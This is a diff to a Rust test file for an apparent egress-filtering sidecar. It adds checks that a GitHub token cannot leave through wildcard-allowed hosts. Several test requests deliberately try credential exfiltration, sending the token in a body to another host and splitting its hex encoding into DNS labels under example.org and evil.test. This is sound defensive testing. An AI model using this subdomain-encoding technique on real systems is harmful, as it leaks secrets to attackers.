@@ -307,7 +307,7 @@ async fn an_unloaded_sidecar_passes_nothing() {
 /// D13: a credential is refused on its way to any other host, or in any other place.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_credential_goes_by_its_route_alone() {
-    let world = world().await;
+    let mut world = world().await;
     let request = format!(
         "POST /echo HTTP/1.1\r\nHost: other.example.com\r\nContent-Length: {}\r\n\r\n{GH}",
         GH.len()
@@ -321,9 +321,20 @@ async fn a_credential_goes_by_its_route_alone() {
     let request = format!("GET /gh/x HTTP/1.1\r\nAuthorization: token {GH}\r\n\r\n");
     let answer = door(&world, &request).await;
     assert_eq!((answer.status, answer.code()), (403, "known-secret:GH_TOKEN"));
-    // In the name of a host that is not allowed: the log does not tell it.
+    // In the name of a host that a wildcard allows: it is not resolved.
+    world.document["policy"]["allow"][0] = json!({ "host": "**.example.org", "port": 443 });
+    world.load().await.unwrap();
     let name = hex::encode(GH);
     let (first, second) = name.split_at(40);
+    for host in [format!("{first}.{second}.example.org"), format!("a.{}.example.org", &DEEP.len())]
+    {
+        let mut client = world.inside(&format!("{host}:443")).await;
+        let answer = client.ask(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n")).await;
+        let expected = if host.starts_with('a') { "upstream_dns" } else { "known-secret:GH_TOKEN" };
+        assert_eq!(answer.code(), expected, "{host}");
+    }
+    assert!(world.names.asked().iter().all(|name| !name.contains(first)));
+    // In the name of a host that is not allowed: the log does not tell it.
     let (_, head) = world.connect(&format!("{first}.{second}.evil.test:443")).await;
     assert_eq!(head.code(), "host_not_allowed");
     nowhere(&world, &[head]);
